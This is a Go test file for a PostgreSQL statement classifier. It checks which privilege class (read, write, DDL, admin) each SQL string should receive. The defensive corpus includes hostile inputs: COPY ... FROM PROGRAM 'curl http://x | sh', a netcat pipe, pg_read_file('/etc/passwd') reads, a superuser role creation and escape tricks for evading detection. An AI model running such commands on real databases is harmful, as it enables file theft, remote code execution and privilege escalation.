package classify_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/hoopgw/hoop/classify"
	"github.com/hoopgw/hoop/policy"
)

const (
	read  = policy.Read
	write = policy.Write
	ddl   = policy.DDL
	admin = policy.Admin
)

// classCase is one statement and what it must be classified as.
type classCase struct {
	sql    string
	class  policy.Class
	kind   string   // "" = not checked
	always bool     // checked always
	reason string   // a substring of Reason; "" = not checked
	tables []string // nil = not checked
}

// classCases is the shared corpus: each statement alone, against every parser.
var classCases = []classCase{
	// read
	{sql: "SELECT 1", class: read, kind: "SELECT"},
	{sql: "select * from users u join orders o on o.user_id = u.id", class: read, tables: []string{"users", "orders"}},
	{sql: "SELECT * FROM public.users, app.public.orders", class: read, tables: []string{"public.users", "app.public.orders"}},
	{sql: `SELECT * FROM "Users" WHERE "Users".id = 1`, class: read, tables: []string{"Users"}},
	{sql: "SELECT id, rank() OVER (PARTITION BY dept ORDER BY salary DESC) FROM emp", class: read},
	{sql: "WITH t AS (SELECT * FROM orders) SELECT count(*) FROM t", class: read, tables: []string{"orders"}},
	{sql: "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 10) SELECT * FROM r", class: read, tables: []string{}},
	{sql: "WITH x AS (SELECT * FROM x) SELECT * FROM x", class: read, tables: []string{"x"}},                     // the inner x is a table
	{sql: "SELECT * FROM (WITH y AS (SELECT 1) SELECT * FROM y) s, y", class: read, tables: []string{"y"}},       // the last y is a table
	{sql: "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", class: read, tables: []string{"b"}}, // the first b is a table
	{sql: "SELECT * FROM users u, LATERAL (SELECT * FROM orders o WHERE o.uid = u.id LIMIT 3) l", class: read},
	{sql: "SELECT data->>'name', data#>'{a,b}', data @> '{\"x\":1}' FROM docs", class: read},
	{sql: "SELECT jsonb_path_query(data, '$.items[*]') FROM docs", class: read},
	{sql: "VALUES (1, 'a'), (2, 'b')", class: read, kind: "SELECT"},
	{sql: "TABLE users", class: read, tables: []string{"users"}},
	{sql: "SELECT 1 UNION SELECT 2 INTERSECT SELECT 3 EXCEPT SELECT 4", class: read},
	{sql: "SELECT currval('s'), lastval()", class: read},
	{sql: "SELECT now(), version(), current_user, pg_backend_pid(), pg_sleep(0)", class: read},
	{sql: "SHOW search_path", class: read, kind: "SHOW"},
	{sql: "SHOW ALL", class: read},
	{sql: "SHOW TRANSACTION ISOLATION LEVEL", class: read},
	{sql: "EXPLAIN SELECT * FROM users", class: read, kind: "EXPLAIN", tables: []string{"users"}},
	{sql: "EXPLAIN DELETE FROM users", class: read, tables: []string{"users"}},
	{sql: "EXPLAIN (VERBOSE, COSTS OFF) UPDATE users SET a = 1", class: read},
	{sql: "EXPLAIN (ANALYZE false) DELETE FROM users", class: read},
	{sql: "EXPLAIN (ANALYZE off, BUFFERS) INSERT INTO t VALUES (1)", class: read},
	{sql: "EXPLAIN SELECT pg_read_file('/etc/passwd')", class: read}, // planned, not run
	{sql: "EXPLAIN ANALYZE SELECT * FROM users", class: read},
	{sql: "EXPLAIN EXECUTE p(1)", class: read},
	{sql: "DECLARE c CURSOR FOR SELECT * FROM users", class: read, kind: "DECLARE CURSOR"},
	{sql: "DECLARE c CURSOR WITH HOLD FOR SELECT 1", class: read},
	{sql: "FETCH 10 FROM c", class: admin, kind: "FETCH"}, // the engine swaps in the DECLARE's class (Fetches)
	{sql: "MOVE NEXT IN c", class: admin, kind: "MOVE"},
	{sql: "SELECT lower(name) FROM users ORDER BY 1", class: read},
	{sql: "SELECT t.nextval FROM t", class: write}, // attribute notation: nextval(t)
	{sql: "SELECT count(*) FILTER (WHERE x > 0) FROM t GROUP BY GROUPING SETS ((a), (b), ())", class: read},
	{sql: "COPY users TO STDOUT", class: read, kind: "COPY", tables: []string{"users"}},
	{sql: "COPY (SELECT * FROM users) TO STDOUT WITH (FORMAT csv)", class: read},
	{sql: "PREPARE q(int) AS SELECT * FROM users WHERE id = $1", class: read, kind: "PREPARE"},

	// comments, quoting and strings around verbs
	{sql: "/* x */ DELETE FROM users", class: write, kind: "DELETE"},
	{sql: "-- a comment\nDELETE FROM users", class: write},
	{sql: "/* nested /* comment */ SELECT */ DELETE FROM users", class: write},
	{sql: "SELECT $$ DELETE FROM users $$", class: read},
	{sql: "SELECT $tag$ ; DELETE FROM users; $tag$", class: read},
	{sql: `SELECT E'\'; DELETE FROM users; --'`, class: read},
	{sql: "SELECT 'it''s; DELETE FROM users'", class: read},
	{sql: `SELECT "DELETE" FROM t`, class: read},
	{sql: "SELECT 1 AS \"drop table users\"", class: read},

	// write
	{sql: "INSERT INTO users (name) VALUES ('a')", class: write, kind: "INSERT", reason: "", tables: []string{"users"}},
	{sql: "INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET v = excluded.v", class: write, tables: []string{"t", "s"}},
	{sql: "UPDATE users SET name = 'b' FROM orders WHERE orders.uid = users.id", class: write, kind: "UPDATE", tables: []string{"users", "orders"}},
	{sql: "DELETE FROM users WHERE id = 1 RETURNING *", class: write, kind: "DELETE"},
	{sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)", class: write, kind: "MERGE", tables: []string{"t", "s"}},
	{sql: "COPY users FROM STDIN", class: write, kind: "COPY"},
	{sql: "COPY users (a, b) FROM STDIN WITH (FORMAT csv) WHERE a > 0", class: write},
	{sql: "COPY (DELETE FROM users RETURNING *) TO STDOUT", class: write, reason: "DELETE inside COPY"},
	{sql: "COPY (UPDATE users SET a = 1 RETURNING *) TO STDOUT", class: write},
	{sql: "SELECT * INTO newtable FROM users", class: write, kind: "SELECT", reason: "SELECT INTO", tables: []string{"newtable", "users"}},
	{sql: "SELECT * FROM users FOR UPDATE", class: write, reason: "FOR UPDATE"},
	{sql: "SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED", class: write, reason: "FOR NO KEY UPDATE"},
	{sql: "SELECT * FROM users FOR SHARE", class: write, reason: "FOR SHARE"},
	{sql: "SELECT * FROM users FOR KEY SHARE NOWAIT", class: write, reason: "FOR KEY SHARE"},
	{sql: "SELECT * FROM (SELECT * FROM users FOR UPDATE) s", class: write},
	{sql: "SELECT * FROM users WHERE id IN (SELECT id FROM t FOR SHARE)", class: write},
	{sql: "DECLARE c CURSOR FOR SELECT * FROM users FOR UPDATE", class: write},
	{sql: "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", class: write, kind: "SELECT", reason: "DELETE inside a WITH", tables: []string{"users"}},
	{sql: "WITH u AS (UPDATE users SET a = 1 RETURNING *) SELECT 1", class: write, reason: "UPDATE inside a WITH"},
	{sql: "WITH i AS (INSERT INTO log VALUES (1) RETURNING *) SELECT * FROM i", class: write, reason: "INSERT inside a WITH"},
	{sql: "WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM t RETURNING *) SELECT * FROM c) SELECT * FROM b", class: write, reason: "DELETE inside a WITH"},
	{sql: "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", class: write},
	{sql: "WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING *) SELECT 1", class: write},
	{sql: "WITH d AS (DELETE FROM users) DELETE FROM d", class: write, tables: []string{"users", "d"}},
	{sql: "SELECT nextval('users_id_seq')", class: write, reason: "calls nextval"},
	{sql: "SELECT setval('users_id_seq', 42)", class: write, reason: "calls setval"},
	{sql: "SELECT pg_catalog.nextval('s')", class: write},
	{sql: "SELECT * FROM users WHERE id = nextval('s')", class: write},
	{sql: "SELECT pg_advisory_lock(1)", class: write, reason: "calls pg_advisory_lock"},
	{sql: "SELECT pg_try_advisory_xact_lock(1, 2)", class: write},
	{sql: "SELECT pg_advisory_unlock_all()", class: read}, // releases the session's own locks
	{sql: "SELECT pg_advisory_unlock(1), pg_advisory_unlock_shared(1, 2)", class: read},
	{sql: "SELECT pg_advisory_lock(1), pg_advisory_unlock(1)", class: write},
	{sql: "SELECT pg_notify('ch', 'hi')", class: write, reason: "calls pg_notify"},
	{sql: "SELECT lo_from_bytea(0, 'x')", class: write},
	{sql: "SELECT lo_put(1, 0, 'x')", class: write},
	{sql: "SELECT lo_unlink(1)", class: write},
	{sql: "EXPLAIN ANALYZE DELETE FROM users", class: write, kind: "EXPLAIN", reason: "EXPLAIN ANALYZE runs the DELETE"},
	{sql: "EXPLAIN (ANALYZE) UPDATE users SET a = 1", class: write},
	{sql: "EXPLAIN (ANALYZE true, VERBOSE) INSERT INTO t VALUES (1)", class: write},
	{sql: "EXPLAIN (ANALYZE 1) INSERT INTO t VALUES (1)", class: write},
	{sql: "EXPLAIN ANALYZE SELECT nextval('s')", class: write},
	{sql: "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", class: write},
	{sql: "EXPLAIN ANALYZE SELECT * INTO x FROM t", class: write},
	{sql: "LOCK TABLE users", class: write, kind: "LOCK TABLE", tables: []string{"users"}},
	{sql: "LOCK users IN ACCESS SHARE MODE", class: read, kind: "LOCK TABLE"}, // what a SELECT takes (pg_dump)
	{sql: "LOCK TABLE ONLY public.users IN ACCESS SHARE MODE NOWAIT", class: read},
	{sql: "LOCK users IN ROW SHARE MODE", class: write},
	{sql: "LOCK users IN SHARE MODE", class: write},
	{sql: "LOCK users IN ACCESS EXCLUSIVE MODE", class: write},
	{sql: "NOTIFY ch, 'payload'", class: write, kind: "NOTIFY"},
	{sql: "LISTEN ch", class: write, kind: "LISTEN"},
	{sql: "UNLISTEN *", class: read, kind: "UNLISTEN", always: true}, // drops the session's own subscriptions
	{sql: "UNLISTEN ch", class: read, always: true},
	{sql: "PREPARE d AS DELETE FROM users WHERE id = $1", class: write, kind: "PREPARE", reason: "DELETE inside PREPARE"},

	// a pooler's reset (asyncpg's "SELECT pg_advisory_unlock_all(); CLOSE ALL; UNLISTEN *;
	// RESET ALL;" when it takes a connection back): each is above or below, harmless
	{sql: "CLOSE ALL", class: read, kind: "CLOSE", always: true},
	// pg_dump's session setup: harmless settings
	{sql: "SET synchronize_seqscans TO off", class: read, kind: "SET", always: true},
	{sql: "SET restrict_nonsystem_relation_kind = 'view, foreign-table'", class: read, always: true},

	// lifting a read-only session is write
	{sql: "BEGIN READ WRITE", class: write, kind: "BEGIN", reason: "READ WRITE"},
	{sql: "START TRANSACTION READ WRITE", class: write, kind: "START TRANSACTION"},
	{sql: "BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE", class: write},
	{sql: "SET default_transaction_read_only = off", class: write, kind: "SET"},
	{sql: "SET default_transaction_read_only TO false", class: write},
	{sql: "SET default_transaction_read_only = 0", class: write},
	{sql: "SET default_transaction_read_only = 'no'", class: write},
	{sql: "SET SESSION default_transaction_read_only = off", class: write},
	{sql: "SET LOCAL default_transaction_read_only = off", class: write},
	{sql: "SET default_transaction_read_only TO DEFAULT", class: write},
	{sql: "SET \"default_transaction_read_only\" = off", class: write},
	{sql: "SET transaction_read_only = off", class: write},
	{sql: "SET TRANSACTION READ WRITE", class: write},
	{sql: "SET TRANSACTION ISOLATION LEVEL READ COMMITTED, READ WRITE", class: write},
	{sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", class: write},
	{sql: "RESET default_transaction_read_only", class: write, kind: "RESET"},
	{sql: "RESET transaction_read_only", class: write},
	{sql: "RESET ALL", class: read, kind: "RESET", always: true}, // back to the startup values: read-only is one

	// ddl
	{sql: "CREATE TABLE t (id int primary key, name text default 'x')", class: ddl, kind: "CREATE TABLE", tables: []string{"t"}},
	{sql: "CREATE TABLE t (id bigint DEFAULT nextval('s'))", class: ddl},
	{sql: "CREATE TABLE t2 AS SELECT * FROM t", class: ddl, kind: "CREATE TABLE AS", tables: []string{"t2", "t"}},
	{sql: "CREATE MATERIALIZED VIEW mv AS SELECT 1", class: ddl, kind: "CREATE MATERIALIZED VIEW"},
	{sql: "CREATE VIEW v AS SELECT * FROM users", class: ddl, kind: "CREATE VIEW"},
	{sql: "CREATE INDEX CONCURRENTLY i ON users (lower(email))", class: ddl, kind: "CREATE INDEX"},
	{sql: "ALTER TABLE users ADD COLUMN age int", class: ddl, kind: "ALTER TABLE"},
	{sql: "ALTER TABLE users RENAME COLUMN a TO b", class: ddl, kind: "ALTER TABLE"},
	{sql: "DROP TABLE users, public.orders CASCADE", class: ddl, kind: "DROP TABLE", tables: []string{"users", "public.orders"}},
	{sql: "DROP MATERIALIZED VIEW mv", class: ddl, kind: "DROP MATERIALIZED VIEW"},
	{sql: "DROP FUNCTION pg_read_file(text)", class: ddl, kind: "DROP FUNCTION"},
	{sql: "TRUNCATE users", class: ddl, kind: "TRUNCATE TABLE"},
	{sql: "COMMENT ON TABLE users IS 'people'", class: ddl, kind: "COMMENT"},
	{sql: "GRANT SELECT ON users TO bob", class: ddl, kind: "GRANT"},
	{sql: "REVOKE ALL ON users FROM bob", class: ddl, kind: "REVOKE"},
	{sql: "REINDEX TABLE users", class: ddl, kind: "REINDEX"},
	{sql: "VACUUM FULL users", class: ddl, kind: "VACUUM"},
	{sql: "ANALYZE users", class: ddl, kind: "ANALYZE"},
	{sql: "CLUSTER users USING users_pkey", class: ddl, kind: "CLUSTER"},
	{sql: "REFRESH MATERIALIZED VIEW CONCURRENTLY mv", class: ddl, kind: "REFRESH MATERIALIZED VIEW"},
	{sql: "SECURITY LABEL FOR selinux ON TABLE users IS 'x'", class: ddl, kind: "SECURITY LABEL"},
	{sql: "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob", class: ddl, kind: "ALTER DEFAULT PRIVILEGES"},
	{sql: "CREATE SCHEMA s CREATE TABLE t (a int)", class: ddl},
	{sql: "CREATE SEQUENCE s", class: ddl},
	{sql: "CREATE TYPE mood AS ENUM ('sad', 'ok')", class: ddl, kind: "CREATE TYPE"},
	{sql: "CREATE DATABASE d", class: ddl},
	{sql: "CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()", class: ddl},
	{sql: "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTIFY ch", class: ddl},
	{sql: "ALTER SEQUENCE s RESTART", class: ddl},
	{sql: "CREATE POLICY p ON users USING (true)", class: ddl},

	// admin
	{sql: "SET ROLE postgres", class: admin, kind: "SET", reason: "privileges"},
	{sql: "SET LOCAL ROLE postgres", class: admin},
	{sql: "SET role = 'postgres'", class: admin},
	{sql: "RESET ROLE", class: admin, kind: "RESET"},
	{sql: "SET SESSION AUTHORIZATION postgres", class: admin},
	{sql: "SET SESSION AUTHORIZATION DEFAULT", class: admin},
	{sql: "RESET SESSION AUTHORIZATION", class: admin},
	{sql: "SET session_replication_role = replica", class: admin, reason: "not a harmless setting"},
	{sql: "SET log_statement = 'none'", class: admin},
	{sql: "SET standard_conforming_strings = off", class: admin},
	{sql: "SET client_encoding = 'SJIS'", class: admin},
	{sql: "SET NAMES 'BIG5'", class: admin},
	{sql: "ALTER SYSTEM SET log_statement = 'none'", class: admin, kind: "ALTER SYSTEM"},
	{sql: "ALTER SYSTEM RESET ALL", class: admin},
	{sql: "LOAD 'plugin'", class: admin, kind: "LOAD"},
	{sql: "DO $$ BEGIN DELETE FROM users; END $$", class: admin, kind: "DO"},
	{sql: "DO LANGUAGE plpgsql 'BEGIN NULL; END'", class: admin},
	{sql: "CALL refresh_all()", class: admin, kind: "CALL"},
	{sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", class: admin, kind: "CREATE FUNCTION"},
	{sql: "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END", class: admin, kind: "CREATE PROCEDURE"},
	{sql: "CREATE FUNCTION f() RETURNS int RETURN 1", class: admin},
	{sql: "COPY users FROM PROGRAM 'curl http://x | sh'", class: admin, reason: "PROGRAM"},
	{sql: "COPY users TO PROGRAM 'nc x 1'", class: admin},
	{sql: "COPY (SELECT 1) TO PROGRAM 'sh'", class: admin},
	{sql: "COPY users FROM '/etc/passwd'", class: admin, reason: "file"},
	{sql: "COPY users TO '/tmp/x'", class: admin},
	{sql: "CHECKPOINT", class: admin, kind: "CHECKPOINT"},
	{sql: "PREPARE TRANSACTION 'x'", class: admin, kind: "PREPARE TRANSACTION"},
	{sql: "COMMIT PREPARED 'x'", class: admin},
	{sql: "ROLLBACK PREPARED 'x'", class: admin},
	{sql: "CREATE ROLE evil SUPERUSER", class: admin},
	{sql: "ALTER ROLE me SET default_transaction_read_only = off", class: admin},
	{sql: "ALTER DATABASE d SET standard_conforming_strings = off", class: admin},
	{sql: "GRANT pg_read_server_files TO me", class: admin, kind: "GRANT ROLE"},
	{sql: "CREATE EXTENSION dblink", class: admin},
	{sql: "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", class: admin},
	{sql: "CREATE USER MAPPING FOR me SERVER s OPTIONS (user 'x', password 'y')", class: admin},
	{sql: "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", class: admin},
	{sql: "CREATE TABLESPACE ts LOCATION '/tmp'", class: admin},
	{sql: "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'", class: admin},
	{sql: "UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'role'", class: admin},
	{sql: "INSERT INTO pg_catalog.pg_authid VALUES (1)", class: admin},
	{sql: "EXECUTE p(1)", class: admin, kind: "EXECUTE"},
	{sql: "EXECUTE p(pg_read_file('/etc/passwd'))", class: admin, reason: "calls pg_read_file"},
	{sql: "EXPLAIN EXECUTE p(pg_read_file('/etc/passwd'))", class: admin, reason: "calls pg_read_file"},
	{sql: "EXPLAIN EXECUTE p(nextval('s'))", class: write},
	{sql: "EXPLAIN ANALYZE EXECUTE p(1)", class: admin},
	{sql: "CREATE TABLE x AS EXECUTE p", class: admin},

	// side-effecting or privileged functions anywhere
	{sql: "SELECT pg_read_file('/etc/passwd')", class: admin, reason: "calls pg_read_file"},
	{sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", class: admin},
	{sql: `SELECT "pg_read_file"('/etc/passwd')`, class: admin},
	{sql: `SELECT "pg_catalog"."pg_read_file"('/etc/passwd')`, class: admin},
	{sql: "SELECT PG_READ_FILE('/etc/passwd')", class: admin},
	{sql: `SELECT U&"\0070g_read_file"('/etc/passwd')`, class: admin},
	{sql: `SELECT U&"!0070g_read_file" UESCAPE '!'('/etc/passwd')`, class: admin},
	{sql: "SELECT pg_read_binary_file('/etc/passwd')", class: admin},
	{sql: "SELECT * FROM pg_ls_dir('.')", class: admin, reason: "calls pg_ls_dir"},
	{sql: "SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('.'))", class: admin},
	{sql: "SELECT pg_stat_file('postgresql.conf')", class: admin},
	{sql: "SELECT lo_import('/etc/passwd')", class: admin},
	{sql: "SELECT lo_export(1, '/tmp/x')", class: admin},
	{sql: "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", class: admin},
	{sql: "SELECT dblink_exec('host=x', 'DROP TABLE users')", class: admin},
	{sql: "SELECT dblink_connect('c', 'host=x')", class: admin},
	{sql: "SELECT set_config('role', 'postgres', false)", class: admin, reason: "calls set_config"},
	{sql: "SELECT set_config('default_transaction_read_only', 'off', false)", class: admin},
	{sql: "SELECT set_config('session_authorization', 'x', false)", class: admin},
	{sql: "SELECT set_config('my.secret', 'x', false)", class: admin},
	{sql: "SELECT set_config(lower('SEARCH_PATH'), '', false)", class: admin},
	{sql: "SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'default_transaction_read_only'", class: admin},
	{sql: "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name LIKE 'restrict%'", class: admin},
	{sql: "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'search_path' OR true", class: admin},
	{sql: "SELECT set_config(setting, 'x', false) FROM pg_settings WHERE name = 'search_path'", class: admin},
	{sql: "SELECT myschema.set_config('search_path', '', false)", class: admin}, // not PostgreSQL's: admin by its name, as before
	// pg_dump's session setup: set_config of a setting anyone may SET is read
	{sql: "SELECT pg_catalog.set_config('search_path', '', false)", class: read, kind: "SELECT"},
	{sql: "SELECT set_config('statement_timeout', '0', true)", class: read},
	{sql: "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'", class: read},
	{sql: "SELECT set_config('search_path', '', false), nextval('s')", class: write},
	{sql: "SELECT pg_terminate_backend(123)", class: admin},
	{sql: "SELECT pg_cancel_backend(pid) FROM pg_stat_activity", class: admin},
	{sql: "SELECT pg_reload_conf()", class: admin},
	{sql: "SELECT pg_rotate_logfile()", class: admin},
	{sql: "SELECT query_to_xml('DELETE FROM users RETURNING *', true, false, '')", class: admin},
	{sql: "SELECT query_to_xml_and_xmlschema('SELECT 1', true, false, '')", class: admin},
	{sql: "SELECT cursor_to_xml('c', 1, true, false, '')", class: admin},
	{sql: "SELECT table_to_xml('users', true, false, '')", class: admin},
	{sql: "SELECT schema_to_xmlschema('public', true, false, '')", class: admin},
	{sql: "SELECT database_to_xml(true, false, '')", class: admin},
	{sql: "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", class: admin},
	{sql: "SELECT pg_create_logical_replication_slot('s', 'pgoutput')", class: admin},
	{sql: "SELECT pg_create_physical_replication_slot('s')", class: admin},
	{sql: "SELECT pg_drop_replication_slot('s')", class: admin},
	{sql: "SELECT pg_switch_wal()", class: admin},
	{sql: "SELECT pg_promote()", class: admin},
	{sql: "SELECT pg_file_write('x', 'y', false)", class: admin},
	{sql: "SELECT ts_stat('SELECT to_tsvector(body) FROM docs')", class: admin},
	{sql: "SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')", class: admin},
	{sql: "SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)", class: read},
	{sql: "SELECT 1 WHERE pg_read_file('/etc/passwd') IS NOT NULL", class: admin},
	{sql: "SELECT * FROM users ORDER BY pg_read_file('/etc/passwd')", class: admin},
	{sql: "SELECT * FROM users GROUP BY 1 HAVING count(pg_ls_dir('.')) > 0", class: admin},
	{sql: "SELECT (SELECT pg_read_file('/etc/passwd'))", class: admin},
	{sql: "SELECT * FROM (SELECT pg_read_file('/etc/passwd')) s", class: admin},
	{sql: "WITH x AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM x", class: admin},
	{sql: "SELECT coalesce(NULL, lower(pg_read_file('/etc/passwd')))", class: admin},
	{sql: "SELECT CASE WHEN true THEN pg_read_file('/etc/passwd') END", class: admin},
	{sql: "SELECT ARRAY[pg_read_file('/etc/passwd')]", class: admin},
	{sql: "SELECT count(*) FILTER (WHERE pg_read_file('x') = '') FROM t", class: admin},
	{sql: "SELECT sum(x) OVER (ORDER BY pg_read_file('x')) FROM t", class: admin},
	{sql: "SELECT ('x'::text).pg_read_file", class: admin},
	{sql: "SELECT t.pg_read_file FROM t", class: admin},
	{sql: "INSERT INTO t VALUES (pg_read_file('/etc/passwd'))", class: admin},
	{sql: "UPDATE t SET a = 1 WHERE b = set_config('role', 'x', false)", class: admin},
	{sql: "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", class: admin},
	{sql: "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", class: admin},
	{sql: "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT", class: admin},
	{sql: "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", class: admin},
	{sql: "PREPARE p AS SELECT pg_ls_dir('.')", class: admin},
	{sql: "DECLARE c CURSOR FOR SELECT pg_read_file('x')", class: admin},
	{sql: "SELECT * FROM json_to_record(pg_read_file('x')::json) AS r(a int)", class: admin},
	{sql: "SELECT xmlelement(name a, pg_read_file('x'))", class: admin},
	{sql: "SELECT 1 FROM t TABLESAMPLE bernoulli (pg_advisory_lock(1))", class: write},

	// always: transaction control and harmless settings
	{sql: "BEGIN", class: read, kind: "BEGIN", always: true},
	{sql: "BEGIN READ ONLY", class: read, always: true},
	{sql: "BEGIN ISOLATION LEVEL REPEATABLE READ READ ONLY DEFERRABLE", class: read, always: true},
	{sql: "START TRANSACTION", class: read, kind: "START TRANSACTION", always: true},
	{sql: "COMMIT", class: read, kind: "COMMIT", always: true},
	{sql: "COMMIT AND CHAIN", class: read, always: true},
	{sql: "END", class: read, kind: "COMMIT", always: true},
	{sql: "ROLLBACK", class: read, kind: "ROLLBACK", always: true},
	{sql: "ABORT", class: read, kind: "ROLLBACK", always: true},
	{sql: "SAVEPOINT s1", class: read, kind: "SAVEPOINT", always: true},
	{sql: "RELEASE SAVEPOINT s1", class: read, kind: "RELEASE", always: true},
	{sql: "ROLLBACK TO SAVEPOINT s1", class: read, kind: "ROLLBACK", always: true},
	{sql: "SET search_path = public, app", class: read, kind: "SET", always: true},
	{sql: "SET application_name = 'psql'", class: read, always: true},
	{sql: "SET client_encoding = 'UTF8'", class: read, always: true},
	{sql: "SET NAMES 'utf-8'", class: read, always: true},
	{sql: "SET client_encoding TO DEFAULT", class: read, always: true},
	{sql: "SET DateStyle = 'ISO, MDY'", class: read, always: true},
	{sql: "SET datestyle TO postgres, dmy", class: read, always: true},
	{sql: "SET IntervalStyle = iso_8601", class: read, always: true},
	{sql: "SET TIME ZONE 'UTC'", class: read, always: true},
	{sql: "SET TIME ZONE LOCAL", class: read, always: true},
	{sql: "SET timezone = 'Europe/Paris'", class: read, always: true},
	{sql: "SET extra_float_digits = 3", class: read, always: true},
	{sql: "SET statement_timeout = '5s'", class: read, always: true},
	{sql: "SET LOCAL lock_timeout = 1000", class: read, always: true},
	{sql: "SET idle_in_transaction_session_timeout = 0", class: read, always: true},
	{sql: "SET work_mem = '64MB'", class: read, always: true},
	{sql: "SET bytea_output = 'hex'", class: read, always: true},
	{sql: "SET client_min_messages = warning", class: read, always: true},
	{sql: "SET enable_seqscan = off", class: read, always: true},
	{sql: "SET standard_conforming_strings = on", class: read, always: true},
	{sql: "SET default_transaction_read_only = on", class: read, always: true},
	{sql: "SET transaction_read_only = true", class: read, always: true},
	{sql: "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", class: read, always: true},
	{sql: "SET TRANSACTION READ ONLY", class: read, always: true},
	{sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", class: read, always: true},
	{sql: "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'", class: read, always: true},
	{sql: "SET CONSTRAINTS ALL DEFERRED", class: read, always: true},
	{sql: "RESET search_path", class: read, kind: "RESET", always: true},
	{sql: "RESET statement_timeout", class: read, always: true},
	{sql: "DISCARD ALL", class: read, kind: "DISCARD", always: true},
	{sql: "DISCARD PLANS", class: read, always: true},
	{sql: "DISCARD TEMP", class: read, always: true},
	{sql: "DEALLOCATE p", class: read, kind: "DEALLOCATE", always: true},
	{sql: "DEALLOCATE ALL", class: read, always: true},
	{sql: "CLOSE c", class: read, kind: "CLOSE", always: true},
	{sql: "CLOSE ALL", class: read, always: true},

	// not parsing is admin
	{sql: "SELEC 1", class: admin, kind: "UNKNOWN", reason: "does not parse: syntax error"},
	{sql: "SELECT 'unterminated", class: admin, reason: "does not parse"},
	{sql: "DELETE FROM", class: admin},
	{sql: "SELECT 1; SELEC 2", class: admin},
	{sql: "SELECT 1\x00; DELETE FROM users", class: admin, reason: "NUL"},
}

func TestClassify(t *testing.T) {
	for _, p := range parsers {
		c := classify.New(p.parse, 0)
		for _, tc := range classCases {
			sts, err := c.Classify(tc.sql)
			if err != nil {
				t.Errorf("%s: Classify(%q): %v", p.name, tc.sql, err)
				continue
			}
			if len(sts) != 1 {
				t.Errorf("%s: Classify(%q): got %d statements, want 1: %+v", p.name, tc.sql, len(sts), sts)
				continue
			}
			st := sts[0]
			if st.Class != tc.class {
				t.Errorf("%s: %q: got class %q, want %q (reason %q)", p.name, tc.sql, st.Class, tc.class, st.Reason)
			}
			if st.Always != tc.always {
				t.Errorf("%s: %q: got always %v, want %v", p.name, tc.sql, st.Always, tc.always)
			}
			if tc.kind != "" && st.Kind != tc.kind {
				t.Errorf("%s: %q: got kind %q, want %q", p.name, tc.sql, st.Kind, tc.kind)
			}
			if tc.reason != "" && !strings.Contains(st.Reason, tc.reason) {
				t.Errorf("%s: %q: got reason %q, want it to contain %q", p.name, tc.sql, st.Reason, tc.reason)
			}
			if tc.tables != nil {
				if diff := cmp.Diff(tc.tables, st.Tables, cmpEmpty); diff != "" {
					t.Errorf("%s: %q: tables (-want +got):\n%s", p.name, tc.sql, diff)
				}
			}
			if st.Class == admin && st.Reason == "" {
				t.Errorf("%s: %q: admin without a reason", p.name, tc.sql)
			}
		}
	}
}

// cmpEmpty makes a nil and an empty slice equal.
var cmpEmpty = cmp.Comparer(func(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
})
